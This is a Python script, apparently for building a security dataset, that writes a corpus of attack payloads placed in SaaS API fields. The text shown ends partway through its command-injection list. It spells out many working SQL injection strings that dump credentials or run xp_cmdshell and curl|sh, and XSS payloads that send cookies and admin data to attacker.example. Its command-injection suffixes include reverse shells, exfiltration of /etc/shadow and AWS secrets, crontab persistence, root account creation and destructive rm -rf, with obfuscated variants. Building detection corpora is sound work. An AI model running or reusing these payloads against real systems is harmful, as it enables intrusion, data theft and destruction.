#!/usr/bin/env python3
"""Write attacks.jsonl: attacks placed in the fields of a SaaS platform API.

The fields are those the benign corpus covers (filter boxes, rich text,
templates, theme files, webhook URLs, export file names, automation rules).
Every payload below was composed for this corpus from hand-written pieces and
templates; none was copied from a public payload list or a dataset.
Attacker hosts are reserved names and documentation addresses
(attacker.example, 203.0.113.0/24); internal targets are the real
metadata and loopback addresses.

Standard library only, deterministic (random.Random(1718)); running the
script twice gives the same bytes.
"""
import base64
import codecs
import json
import random
import urllib.parse
from pathlib import Path

RNG = random.Random(1718)
OUT = Path(__file__).with_name("attacks.jsonl")
MAX_LEN = 1800


def pick(seq):
    return RNG.choice(seq)


def q(s):
    return urllib.parse.quote(s, safe="")


def qq(s):
    return q(q(s))


def maybe_enc(cls, value, p1=0.16, p2=0.05, part=None):
    """Sometimes URL-encode the payload (once or twice) like a query string would carry it.

    part: (prefix, payload) -> only the payload is encoded, prefix stays readable."""
    r = RNG.random()
    if r < p1:
        enc, f = "+urlenc", q
    elif r < p1 + p2:
        enc, f = "+double-urlenc", qq
    else:
        return cls, value
    if part:
        return cls + enc, part[0] + f(part[1])
    return cls + enc, f(value)


def b64(s):
    return base64.b64encode(s.encode()).decode()


def html_dec(s):
    return "".join("&#%d;" % ord(c) for c in s)


def html_hex(s):
    return "".join("&#x%x;" % ord(c) for c in s)


def js_hex(s):
    return "".join("\\x%02x" % ord(c) for c in s)


def charcodes(s):
    return ",".join(str(ord(c)) for c in s)


def php_str(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


# ====================================================================== sqli
def sqli():
    str_ctx = ["$filter=Name eq 'Linen Shirt", "$filter=startswith(Sku,'TSH", "region = 'EMEA",
               "customer_name = 'Müller", "email=anna.k@example.com", "coupon=WELCOME10", "q=linen",
               "sku=TSH-RED-XL-001", "tag=vip", "vendor=Acme GmbH", "handle=summer-sale-2025",
               "$filter=City eq 'Berlin", "utm_campaign=spring_25"]
    num_ctx = ["$filter=Price gt 20", "order_id=10234", "customer_id=88213", "id=4411", "product_id=8841",
               "store_id=48", "$filter=Quantity ge 2", "revenue > 10000"]
    sort_ctx = ["sort=", "$orderby=", "order_by=", "sort_by="]
    lim_ctx = ["limit=", "$top=", "per_page="]
    hexphp = "0x" + "<?php system($_GET['c']); ?>".encode().hex()
    pg_path = "||".join("CHR(%d)" % ord(c) for c in "/etc/passwd")
    items = [
        # (class, kind, payload, random-encoding allowed)
        ("union-mysql", "str", "' UNION SELECT NULL,CONCAT(email,0x3a,password_hash),NULL FROM customers-- -", True),
        ("union-mysql+versioned-comment", "str", "' /*!50000UNION*/ /*!50000SELECT*/ 1,group_concat(username,0x3a,api_secret),3 FROM staff_accounts-- -", False),
        ("union-mysql+comment-space", "str", "'/**/UNION/**/ALL/**/SELECT/**/NULL,table_name,NULL/**/FROM/**/information_schema.tables/**/WHERE/**/table_schema=database()#", False),
        ("union-mysql+mixed-case", "str", "' uNiOn aLl SeLeCt 1,@@version,user(),4 fRoM dual-- -", False),
        ("union-mysql", "num", " UNION ALL SELECT id,email,password_hash,NULL FROM admin_users-- -", True),
        ("union-pgsql", "str", "' UNION SELECT NULL,string_agg(usename||':'||passwd,','),NULL FROM pg_shadow--", True),
        ("union-pgsql", "str", "' UNION ALL SELECT id::text,email||':'||password_digest,NULL FROM admin_users--", True),
        ("union-mssql", "str", "' UNION SELECT NULL,name+':'+master.sys.fn_varbintohexstr(password_hash),NULL FROM sys.sql_logins--", True),
        ("union-mssql", "str", "' UNION SELECT NULL,(SELECT TOP 20 email+':'+password+';' FROM users FOR XML PATH('')),NULL--", True),
        ("union-oracle", "str", "' UNION SELECT NULL,username||':'||password FROM sys.user$--", True),
        ("union-oracle", "str", "' UNION SELECT table_name,column_name FROM all_tab_columns WHERE owner=(SELECT user FROM dual)--", True),
        ("union-sqlite", "str", "' UNION SELECT 1,sql,3 FROM sqlite_master WHERE type='table'--", True),
        ("union-sqlite", "str", "' UNION SELECT group_concat(email||':'||password,char(10)),2 FROM users--", True),
        ("union-mysql+scientific-notation", "whole", "id=-1.0UNION SELECT 1,email,password_hash FROM customers-- -", False),
        ("union-mysql+newline", "str", "'\nUNION\nSELECT\nNULL,api_secret,NULL\nFROM\nstaff_accounts#", False),
        ("union-mysql+tab", "str", "'\tUNION\tALL\tSELECT\tNULL,CONCAT_WS(0x3a,email,password_hash),NULL\tFROM\tcustomers-- -", False),
        ("union-mysql+newline-urlenc", "str", "'%0aUNION%0aSELECT%0aNULL,email,password_hash%0aFROM%0acustomers--%0a", False),
        ("union-mysql+hex-string", "str", "' UNION SELECT NULL,password_hash,NULL FROM staff_accounts WHERE email=0x" + "owner@acme-outfitters.com".encode().hex() + "-- -", False),
        ("union-mysql-json", "str", "' UNION SELECT NULL,JSON_EXTRACT(settings,'$.payments.secret_key'),NULL FROM shops-- -", True),
        ("file-read-mysql", "num", " UNION ALL SELECT 1,LOAD_FILE('/etc/passwd'),3,4-- -", True),
        ("file-read-mysql+char", "str", "' UNION SELECT 1,LOAD_FILE(CHAR(%s)),3-- -" % charcodes("/etc/passwd"), False),
        ("file-read-pgsql+chr", "str", "' UNION SELECT NULL,pg_read_file(%s),NULL--" % pg_path, False),
        ("file-write-mysql+hex", "str", "' UNION SELECT %s,NULL,NULL INTO OUTFILE '/var/www/html/uploads/c.php'-- -" % hexphp, False),
        ("time-blind-mysql", "str", "' AND (SELECT 7 FROM (SELECT SLEEP(6))a)-- -", True),
        ("time-blind-mysql", "str", "' OR IF(SUBSTRING((SELECT password_hash FROM staff_accounts WHERE role='owner' LIMIT 1),1,1)='$',SLEEP(4),0)-- -", True),
        ("time-blind-mysql-benchmark", "str", "' AND BENCHMARK(9000000,SHA1(0x70776e))-- -", True),
        ("time-blind-mysql+no-space", "str", "'OR(SELECT(1)FROM(SELECT(SLEEP(7)))x)#", True),
        ("time-blind-pgsql", "str", "'; SELECT pg_sleep(6)--", True),
        ("time-blind-pgsql", "str", "'||(SELECT CASE WHEN (SELECT substr(token,1,1) FROM api_tokens LIMIT 1)='s' THEN pg_sleep(5) ELSE pg_sleep(0) END)||'", True),
        ("time-blind-pgsql-heavy-query", "num", " AND 1=(SELECT COUNT(*) FROM generate_series(1,60000000))", True),
        ("time-blind-pgsql", "str", "' AND 1=(SELECT 1 FROM pg_sleep(5) WHERE current_setting('is_superuser')='on')--", True),
        ("time-blind-pgsql+dollar-quote", "str", "'; DO $$BEGIN PERFORM pg_sleep(8); END$$;--", True),
        ("time-blind-mssql", "str", "'; WAITFOR DELAY '0:0:7'--", True),
        ("time-blind-mssql", "num", ";IF(SUBSTRING(DB_NAME(),1,1)='p') WAITFOR DELAY '0:0:6'--", True),
        ("time-blind-oracle", "str", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),8)--", True),
        ("time-blind-sqlite", "str", "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(400000000/2))))--", True),
        ("bool-blind-mysql", "str", "' AND ASCII(SUBSTRING((SELECT api_secret FROM staff_accounts LIMIT 1),1,1))>77-- -", True),
        ("bool-blind-pgsql", "str", "' AND (SELECT substring(password_digest,1,1) FROM admin_users WHERE email LIKE '%admin%' LIMIT 1)='$'--", True),
        ("bool-blind-mssql", "str", "' AND (SELECT TOP 1 LEN(password) FROM users WHERE username='sa')>8--", True),
        ("bool-blind-sqlite", "str", "' AND substr((SELECT hex(password) FROM users LIMIT 1),1,1)='3'--", True),
        ("error-blind-oracle", "str", "' AND (SELECT CASE WHEN SUBSTR(user,1,1)='S' THEN TO_CHAR(1/0) ELSE 'a' END FROM dual)='a'--", True),
        ("error-mysql-extractvalue", "str", "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version),0x7e))-- -", True),
        ("error-mysql-updatexml", "str", "' AND UPDATEXML(1,CONCAT(0x7e,(SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 0,1)),1)-- -", True),
        ("error-mysql-floor-rand", "str", "' OR 1 GROUP BY CONCAT((SELECT email FROM customers LIMIT 1),FLOOR(RAND(0)*2)) HAVING MIN(0)-- -", True),
        ("error-pgsql-cast", "str", "' AND 1=CAST((SELECT string_agg(email,',') FROM customers) AS int)--", True),
        ("error-mssql-convert", "str", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.sql_logins))--", True),
        ("error-oracle-utl-inaddr", "str", "' AND 1=UTL_INADDR.get_host_name((SELECT user FROM dual))--", True),
        ("error-oracle-ctxsys", "str", "' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE rownum=1))--", True),
        ("stacked-pgsql", "str", "'; UPDATE users SET role='admin' WHERE email='m@attacker.example';--", True),
        ("stacked-mssql-xp-cmdshell", "str", "'; EXEC master..xp_cmdshell 'powershell -nop -c \"iwr http://203.0.113.10/a.ps1|iex\"';--", True),
        ("stacked-mssql-sp-configure", "str", "'; EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;--", True),
        ("stacked-mssql+char", "str", "'; DECLARE @c varchar(80)=%s;EXEC master..xp_cmdshell @c;--" % "+".join("CHAR(%d)" % ord(c) for c in "whoami > C:\\inetpub\\wwwroot\\o.txt"), False),
        ("stacked-mysql-drop", "str", "'; DROP TABLE orders;-- -", True),
        ("stacked-sqlite-attach", "str", "'; ATTACH DATABASE '/var/www/html/c.php' AS p; CREATE TABLE p.x(d text); INSERT INTO p.x VALUES('<?php system($_GET[0]); ?>');--", True),
        ("stacked-pgsql-copy-program", "str", "'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.10/p.sh|sh';--", True),
        ("stacked-pgsql-copy-from", "str", "'; CREATE TEMP TABLE t(c text); COPY t FROM '/etc/passwd'; SELECT string_agg(c,chr(10)) FROM t;--", True),
        ("stacked-pgsql-lo-import", "num", "; SELECT lo_import('/etc/shadow',31337);--", True),
        ("stacked-insert-admin", "str", "'); INSERT INTO staff_accounts(email,role,password_hash) VALUES('x@attacker.example','owner','$2b$12$Qm9ndXNIYXNoRm9yQ29ycHVzT25seQ');--", True),
        ("stacked-delete-audit", "num", "; DELETE FROM audit_log WHERE actor_id=88213;--", True),
        ("oob-mssql-xp-dirtree", "str", "'; DECLARE @q varchar(200);SET @q='\\\\'+(SELECT TOP 1 password FROM users)+'.attacker.example\\x';EXEC master..xp_dirtree @q;--", True),
        ("oob-oracle-utl-http", "str", "' UNION SELECT NULL,UTL_HTTP.request('http://attacker.example/'||(SELECT password FROM dba_users WHERE rownum=1)) FROM dual--", True),
        ("oob-mysql-unc", "str", "' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password_hash FROM staff_accounts LIMIT 1),'.attacker.example\\\\a'))-- -", True),
        ("oob-oracle-xxe", "str", "' UNION SELECT NULL,EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/'||(SELECT user FROM dual)||'\"> %x;]>'),'/l') FROM dual--", True),
        ("json-operator-pgsql", "str", "' AND (SELECT settings->'payments'->>'secret_key' FROM merchants LIMIT 1) LIKE 'sk_live_a%'--", True),
        ("json-operator-pgsql", "str", "' UNION SELECT id::text,metadata::text,NULL FROM merchants WHERE metadata ? 'api_secret'--", True),
        ("json-operator-pgsql", "str", "') OR (data #>> '{role}') IS NOT NULL UNION SELECT email,data #>> '{auth,password_hash}' FROM accounts--", True),
        ("order-by-pgsql", "sort", "(CASE WHEN (SELECT substring(password_hash,1,1) FROM staff_accounts LIMIT 1)='$' THEN created_at ELSE price END)", True),
        ("order-by-mysql", "sort", "price,IF((SELECT COUNT(*) FROM staff_accounts WHERE role='owner')>0,SLEEP(5),1)", True),
        ("order-by-mssql", "sort", "name; EXEC xp_cmdshell 'certutil -urlcache -f http://203.0.113.10/b.exe C:\\Windows\\Temp\\b.exe'--", True),
        ("order-by-pgsql", "sort", "created_at DESC,(SELECT 1 FROM pg_sleep(5))", True),
        ("order-by-mysql-error", "sort", "(SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT api_secret FROM staff_accounts LIMIT 1),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)", True),
        ("limit-union-mysql", "limit", "50 UNION ALL SELECT email,password_hash,3 FROM customers-- -", True),
        ("limit-procedure-mysql", "limit", "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,(SELECT user()))),1)", True),
        ("limit-stacked-pgsql", "limit", "10; SELECT pg_sleep(7)--", True),
        ("tautology-auth-bypass", "whole", "email=owner@acme-outfitters.com' OR '1'='1'-- -", True),
        ("tautology-auth-bypass", "whole", "{\"login\": \"admin'/*\", \"password\": \"*/OR 2>1-- -\"}", False),
        ("tautology-auth-bypass", "str", "') OR ('x'='x", True),
        ("insert-subquery-mysql", "whole", "Great product!', (SELECT password_hash FROM staff_accounts WHERE role='owner' LIMIT 1))-- -", True),
        ("bi-filter-breakout-union", "whole", "region = 'EMEA') UNION SELECT email, password_hash, NULL FROM staff_accounts --", True),
        ("bi-filter-breakout-stacked", "whole", "revenue > 0); DELETE FROM reports WHERE 1=1; --", True),
        ("odata-escaped-quote-breakout", "whole", "$filter=Name eq 'x'' UNION SELECT email,password_hash FROM admin_users--'", True),
        ("sqlite-load-extension", "str", "' AND load_extension('/var/www/uploads/avatars/img.so','sqlite3_x_init')--", True),
    ]
    out = []
    for cls, kind, payload, enc_ok in items:
        if kind == "whole":
            value = payload
            if enc_ok:
                name, eq, rest = value.partition("=")
                if eq and name.replace("$", "").replace("_", "").isalpha():
                    cls, value = maybe_enc(cls, value, part=(name + "=", rest))
                else:
                    cls, value = maybe_enc(cls, value)
            out.append((cls, value))
            continue
        prefix = pick({"str": str_ctx, "num": num_ctx, "sort": sort_ctx, "limit": lim_ctx}[kind])
        value = prefix + payload
        if enc_ok:
            cls, value = maybe_enc(cls, value, part=(prefix, payload))
        out.append((cls, value))
    return out


# ====================================================================== xss
def xss():
    lead = ["", "", "<p>New arrivals are here!</p>", "<p>Free shipping this week only.</p>",
            "<h2>Care instructions</h2><p>Hand wash cold.</p>", "<p>Thanks for shopping with us, {{first_name}}.</p>"]
    alt_text = ["Blue speckled mug", "Linen shirt, sand", "Summer sale banner", "Store logo", "Oak side table",
                "Model wearing rain jacket"]
    steal = "fetch('https://attacker.example/c?'+encodeURIComponent(document.cookie))"
    steal_js = "fetch('//attacker.example/x',{method:'POST',body:document.cookie})"
    admin_grab = ("fetch('/admin/api/v2/staff.json',{credentials:'include'}).then(r=>r.text())"
                  ".then(t=>navigator.sendBeacon('https://attacker.example/s',t))")
    js_url = "javascript:" + "alert(document.domain)"
    items = [
        # (class, kind, payload, allow random url-encoding)
        ("event-handler-img", "html", '<img src="x" onerror="%s">' % steal, True),
        ("event-handler-p", "html", '<p onmouseover="location=\'https://attacker.example/?c=\'+encodeURIComponent(document.cookie)">Hover for your discount</p>', True),
        ("event-handler-details", "html", '<details open ontoggle="location=\'https://attacker.example/p?t=\'+encodeURIComponent(localStorage.getItem(\'auth_token\'))"><summary>Ingredients</summary></details>', True),
        ("event-handler-video+base64", "html", '<video><source onerror="eval(atob(\'%s\'))"></video>' % b64(admin_grab), False),
        ("event-handler-input-autofocus", "html", '<input autofocus onfocus="%s">' % admin_grab, True),
        ("event-handler-body", "html", '<body onload="document.forms[0].action=\'https://attacker.example/login\'">', True),
        ("event-handler-svg", "html", '<svg/onload=fetch("//attacker.example/"+btoa(document.cookie))>', True),
        ("event-handler-marquee", "html", "<marquee onstart=\"%s\">Flash sale!</marquee>" % steal, True),
        ("event-handler-audio", "html", '<audio src=/missing.mp3 onerror="import(\'//attacker.example/m.js\')"></audio>', True),
        ("event-handler-select", "html", '<select autofocus onfocus="%s"><option>EU</option></select>' % steal_js, True),
        ("event-handler-contenteditable", "html", '<div contenteditable autofocus onfocusin="%s">Edit me</div>' % steal, True),
        ("event-handler+mixed-case", "html", '<IMG SRC=x OnErRoR=alert(document.domain)>', False),
        ("event-handler+no-parens", "html", "<img src=x onerror=location=`//attacker.example/?`+document.cookie>", False),
        ("event-handler+decimal-entities", "html", '<img src=x onerror="%s">' % html_dec("fetch('//attacker.example/'+document.cookie)"), False),
        ("event-handler+js-hex-escape", "html", "<img src=x onerror=\"eval('%s')\">" % js_hex("fetch('//attacker.example/'+document.cookie)"), False),
        ("event-handler+js-unicode-escape", "html", "<img src=x onerror=\"\\u0066etch('//attacker.example/'+document.cookie)\">", False),
        ("event-handler+fromcharcode", "html", "<img src=x onerror=\"eval(String.fromCharCode(%s))\">" % charcodes("alert(document.cookie)"), False),
        ("event-handler+string-concat", "html", "<img src=x onerror=\"window['fe'+'tch']('//attacker.example/'+document['coo'+'kie'])\">", False),
        ("event-handler+template-literal", "html", "<img src=x onerror=setTimeout`alert\\x28document.domain\\x29`>", False),
        ("svg-animate-onbegin", "html", '<svg><animate onbegin="%s" attributeName="x" dur="1s"></animate></svg>' % steal, True),
        ("svg-animate-href", "html", '<svg><a><animate attributeName="href" values="javascript:alert(document.cookie)"/><text x="20" y="30">View order</text></a></svg>', True),
        ("svg-script-href", "html", '<svg><script href="https://attacker.example/s.js"></script></svg>', True),
        ("svg-foreignobject-srcdoc", "html", '<svg><foreignObject width="100" height="100"><iframe srcdoc="&lt;script&gt;parent.%s&lt;/script&gt;"></iframe></foreignObject></svg>' % steal.replace("'", "&#39;"), False),
        ("mxss-noscript", "html", '<noscript><p title="</noscript><img src=x onerror=fetch(`https://attacker.example/?c=${document.cookie}`)>"></noscript>', False),
        ("mxss-math-style", "html", '<math><mtext><table><mglyph><style><img src=x onerror="alert(document.domain)"></style></mglyph></table></mtext></math>', False),
        ("mxss-svg-style", "html", '<svg></p><style><a id="</style><img src=1 onerror=alert(document.cookie)>">', False),
        ("mxss-title", "html", '<title><a title="</title><img src=x onerror=alert(document.domain)>"></a></title>', False),
        ("mxss-textarea", "html", '<textarea><p title="</textarea><svg onload=%s>"></textarea>' % steal.replace(" ", ""), False),
        ("mxss-style", "html", '<style><img src="</style><img src=x onerror=alert(document.cookie)>"></style>', False),
        ("iframe-javascript", "html", '<iframe src="javascript:top.location=\'https://attacker.example/phish?from=\'+encodeURIComponent(top.location)"></iframe>', True),
        ("iframe-srcdoc", "html", '<iframe srcdoc="<script>parent.fetch(\'/api/v2/customers.json\').then(r=>r.text()).then(d=>fetch(\'https://attacker.example/\',{method:\'POST\',body:d}))</script>"></iframe>', True),
        ("iframe-srcdoc+html-entities", "html", "<iframe srcdoc=\"&lt;img src=x onerror=&quot;top.location='https://attacker.example/?'+parent.document.cookie&quot;&gt;\"></iframe>", False),
        ("object-data-url+base64", "html", '<object data="data:text/html;base64,%s"></object>' % b64("<script>top.location='https://attacker.example/login'</script>"), False),
        ("embed-data-svg+base64", "html", '<embed src="data:image/svg+xml;base64,%s">' % b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>'), False),
        ("a-javascript", "html", '<a href="javascript:%s">Track your parcel</a>' % admin_grab.replace('"', "'"), True),
        ("a-javascript+mixed-case", "html", '<a href="JaVaScRiPt:alert(document.domain)" target="_self">Download invoice</a>', False),
        ("a-javascript+hex-entities", "html", '<a href="%s">View receipt</a>' % html_hex("javascript:alert(document.cookie)"), False),
        ("a-javascript+decimal-entities", "html", '<a href="%s(document.cookie)">Claim reward</a>' % html_dec("javascript:alert"), False),
        ("a-javascript+named-entities", "html", '<a href="javascript&colon;fetch&lpar;&apos;//attacker.example/&apos;+document&period;cookie&rpar;">Reorder</a>', False),
        ("a-javascript+tab-newline", "html", '<a href="java\tscr\nipt:alert(document.domain)">Size guide</a>', False),
        ("a-javascript+control-char", "html", '<a href="&#14; javascript:alert(document.cookie)">Returns</a>', False),
        ("form-action-javascript", "html", '<form action="javascript:alert(document.cookie)"><button>Apply coupon</button></form>', True),
        ("button-formaction", "html", "<form><button formaction=\"javascript:fetch('//attacker.example/'+document.cookie)\">Continue to checkout</button></form>", True),
        ("meta-refresh-redirect", "html", '<meta http-equiv="refresh" content="0;url=https://attacker.example/login-expired">', True),
        ("base-href-hijack", "html", '<base href="https://attacker.example/">', True),
        ("phishing-overlay-iframe", "html", '<iframe src="https://attacker.example/fake-login" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:2147483647"></iframe>', True),
        ("css-expression-ie", "html", '<p style="width:expression(alert(document.cookie))">Sale</p>', True),
        ("css-url-javascript", "html", '<div style="background-image:url(javascript:alert(document.domain))">Banner</div>', True),
        ("css-behavior-htc", "html", '<span style="behavior:url(https://attacker.example/x.htc)">Gift card</span>', True),
        ("css-attribute-exfil", "css", 'input[name="csrf_token"][value^="a"] { background: url(https://attacker.example/leak?p=a); } input[name="csrf_token"][value^="b"] { background: url(https://attacker.example/leak?p=b); }', False),
        ("css-style-breakout", "css", '.hero { color: #fff; }</style><script src="https://attacker.example/t.js"></script><style>', True),
        ("css-style-breakout", "css", '.x{background:url("x")}</style><img src=x onerror=alert(document.domain)>', True),
        ("css-import-exfil", "css", "@import url('https://attacker.example/steal.css?'); .price { content: 'x' }", False),
        ("angularjs-template", "tmpl", "{{constructor.constructor('fetch(\"https://attacker.example/?c=\"+document.cookie)')()}}", True),
        ("angularjs-template", "tmpl", "{{$on.constructor('location=\"https://attacker.example/?t=\"+localStorage.token')()}}", True),
        ("angularjs-template", "tmpl", "{{[].pop.constructor('alert(document.domain)')()}}", True),
        ("angularjs-ng-focus", "html", '<input autofocus ng-focus="$event.view.alert(document.cookie)">', True),
        ("vue2-template", "tmpl", "{{_c.constructor('alert(document.cookie)')()}}", True),
        ("vue3-template", "tmpl", "{{_openBlock.constructor('fetch(\"//attacker.example/\"+document.cookie)')()}}", True),
        ("vue-v-html", "html", "<div v-html=\"'<img src=x onerror=alert(document.domain)>'\"></div>", True),
        ("dom-clobbering", "html", '<a id="CONFIG"></a><a id="CONFIG" name="scriptSrc" href="https://attacker.example/evil.js"></a>', True),
        ("dom-clobbering", "html", '<form id="appSettings"><input name="apiBase" value="https://attacker.example/api"></form>', True),
        ("attr-breakout-onload", "attr", '" onload="fetch(\'//attacker.example/\'+document.cookie)" x="', True),
        ("attr-breakout-single-quote", "attr", "' onmouseover='location=`https://attacker.example/?`+document.cookie' x='", True),
        ("attr-breakout-tag", "attr", '"><script src="https://attacker.example/x.js"></script>', True),
        ("attr-breakout-autofocus", "attr", '" autofocus onfocus="alert(document.domain)" tabindex="1', True),
        ("attr-breakout-tag+html-entities", "attr", '&quot;&gt;&lt;img src=x onerror=alert(document.cookie)&gt;', False),
        ("script-src", "html", '<script src="https://attacker.example/k.js"></script>', True),
        ("script-inline+mixed-case", "html", '<ScRiPt>document.location="https://attacker.example/c?"+document.cookie</sCrIpT>', False),
        ("script-inline+js-unicode-escape", "html", "<script>\\u0066\\u0065tch('//attacker.example/'+document.cookie)</script>", False),
        ("script-inline-keylogger", "html", "<script>document.addEventListener('keyup',e=>navigator.sendBeacon('https://attacker.example/k',e.key))</script>", True),
        ("js-string-breakout", "whole", "Linen Shirt';fetch('//attacker.example/?'+document.cookie);//", True),
        ("script-tag-breakout", "whole", "Spring Sale</script><script>alert(document.domain)</script>", True),
        ("js-template-literal-breakout", "whole", "${fetch('//attacker.example/'+document.cookie)}", True),
        ("markdown-link-javascript", "whole", "[Track your order](javascript:alert(document.cookie))", True),
        ("markdown-image-attr-breakout", "whole", '![logo](https://cdn.example-shop.com/x.png"onerror="alert(document.domain))', True),
        ("link-field-javascript", "whole", js_url, True),
        ("link-field-javascript+comment", "whole", "javascript://shop.example.com/%0aalert(document.cookie)", False),
        ("link-field-data-url", "whole", "data:text/html,<script>alert(document.domain)</script>", True),
        ("table-background-javascript", "html", '<table background="javascript:alert(document.cookie)"><tr><td>Sizes</td></tr></table>', True),
    ]
    out = []
    for cls, kind, payload, enc_ok in items:
        if kind == "html":
            value = pick(lead) + payload
        elif kind == "attr":
            value = pick(alt_text) + payload
        elif kind == "tmpl":
            value = pick(["", "Hi {{first_name}}! ", "Product of the week: ", "<p>", "Welcome back "]) + payload
        else:
            value = payload
        if enc_ok:
            cls, value = maybe_enc(cls, value, 0.14, 0.04)
        out.append((cls, value))
    return out


# ====================================================================== cmdi
def cmdi():
    ctx = ["orders-2025-03.csv", "export_customers.xlsx", "invoice-10234.pdf", "products_feed.xml",
           "800x600", "1200x630", "64x64", "hooks.partner.io", "api.fulfil-it.com", "8.8.8.8", "main",
           "theme/spring-2025", "logo.png", "Inter-Regular.ttf"]
    ps_cmd = "iwr http://203.0.113.4/s.ps1 -UseBasicParsing | iex"
    ps_enc = base64.b64encode(ps_cmd.encode("utf-16-le")).decode()
    sh_b64 = b64("curl -s https://attacker.example/x.sh | sh")
    printf_hex = js_hex("curl -s attacker.example/p|sh")
    items = [
        # (class, kind, payload, allow random url-encoding); kind "suffix" is appended to a field value
        ("semicolon-download-exec", "suffix", "; curl -s https://attacker.example/i.sh | sh", True),
        ("pipe-download-exec", "suffix", "| wget -qO- http://203.0.113.7/x | sh", True),
        ("and-reverse-shell-bash", "suffix", "&& bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'", True),
        ("or-reverse-shell-python", "suffix", "|| python3 -c 'import socket,os,pty;s=socket.create_connection((\"203.0.113.5\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'", True),
        ("semicolon-reverse-shell-mkfifo", "suffix", "; rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 203.0.113.9 9001 > /tmp/p", True),
        ("semicolon-reverse-shell-php", "suffix", "; php -r '$s=fsockopen(\"203.0.113.5\",4433);exec(\"sh <&3 >&3 2>&3\");'", True),
        ("semicolon-reverse-shell-socat", "suffix", "; socat tcp-connect:203.0.113.5:4444 exec:'bash -li',pty,stderr,setsid", True),
        ("and-reverse-shell-busybox", "suffix", "&& busybox nc 203.0.113.5 9001 -e /bin/sh", True),
        ("semicolon-reverse-shell-perl", "suffix", "; perl -MIO::Socket::INET -e '$c=IO::Socket::INET->new(\"203.0.113.5:7070\");open(STDIN,\"<&\",$c);open(STDOUT,\">&\",$c);exec(\"/bin/sh -i\")'", True),
        ("backtick-file-exfil", "suffix", "`curl -s -d @/etc/passwd https://attacker.example/u`", True),
        ("subshell-env-exfil", "suffix", "$(curl -s -X POST --data-binary @/proc/self/environ https://attacker.example/env)", True),
        ("semicolon-env-exfil", "suffix", "; env | curl -s -X POST --data-binary @- https://attacker.example/e #", True),
        ("semicolon-dns-exfil", "suffix", "; nslookup $(whoami).$(hostname).attacker.example", True),
        ("subshell-dns-exfil", "suffix", "$(dig +short $(printenv AWS_SECRET_ACCESS_KEY | cut -c1-30).attacker.example)", True),
        ("newline-download-exec+urlenc", "suffix", "%0acurl${IFS}-s${IFS}attacker.example/s|sh", False),
        ("newline-download-exec", "suffix", "\ncurl -s attacker.example/n.sh | sh\n", False),
        ("newline-crlf-download-exec+urlenc", "suffix", "%0d%0awget%20-q%20-O-%20http://203.0.113.7/r%7Csh", False),
        ("semicolon-file-exfil+ifs", "suffix", ";cat${IFS}/etc/shadow|curl${IFS}-T${IFS}-${IFS}https://attacker.example/up", False),
        ("semicolon-download-exec+ifs", "suffix", ";wget$IFS-qO-${IFS}203.0.113.7/i|sh", False),
        ("semicolon-download-exec+brace-expansion", "suffix", ";{curl,-s,-o,/tmp/.x,http://203.0.113.8/x};{chmod,+x,/tmp/.x};/tmp/.x", False),
        ("semicolon-download-exec+variable-concat", "suffix", ";a=cu;b=rl;$a$b -s attacker.example/v|sh", False),
        ("semicolon-file-exfil+substring-slash", "suffix", ";cat ${HOME:0:1}etc${HOME:0:1}shadow | nc 203.0.113.9 80", False),
        ("semicolon-file-exfil+glob", "suffix", "; /???/c?t /???/pa??wd | /???/?c 203.0.113.9 80", False),
        ("semicolon-download-exec+quote-splitting", "suffix", "; c'u'r\"l\" -s attacker.example/q | s\\h", False),
        ("semicolon-download-exec+base64", "suffix", "; echo %s | base64 -d | sh" % sh_b64, False),
        ("semicolon-download-exec+printf-hex", "suffix", "; printf '%s' | sh" % printf_hex, False),
        ("subshell-file-read+base64", "suffix", "$(echo %s | base64 -d)" % b64("cat /etc/shadow"), False),
        ("semicolon-sleep", "suffix", "; sleep 12 #", True),
        ("pipe-ping-delay", "suffix", "| ping -c 15 127.0.0.1", True),
        ("subshell-sleep+ifs", "suffix", "$(sleep${IFS}10)", False),
        ("backtick-sleep", "suffix", "`sleep 9`", True),
        ("semicolon-authorized-keys", "suffix", "; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHcorpusOnlyNotARealKeyHcorpusOnly0000 op@203.0.113.5' >> /root/.ssh/authorized_keys", True),
        ("semicolon-crontab", "suffix", "; (crontab -l 2>/dev/null; echo '*/5 * * * * curl -s attacker.example/c|sh') | crontab -", True),
        ("semicolon-webshell-write", "suffix", "; echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/uploads/.cache.php", True),
        ("semicolon-destructive", "suffix", "; rm -rf /var/www/storage/exports /var/backups/*", True),
        ("semicolon-add-user", "suffix", "; useradd -o -u 0 -M -s /bin/bash svc_sync && echo 'svc_sync:Winter2025!' | chpasswd", True),
        ("windows-amp-powershell-download", "suffix", "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.4/p.ps1')\"", True),
        ("windows-amp-credential-exfil", "suffix", "& type %USERPROFILE%\\.aws\\credentials > \\\\203.0.113.4\\loot\\c.txt", True),
        ("windows-certutil-download", "suffix", "& certutil -urlcache -split -f http://203.0.113.4/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe", True),
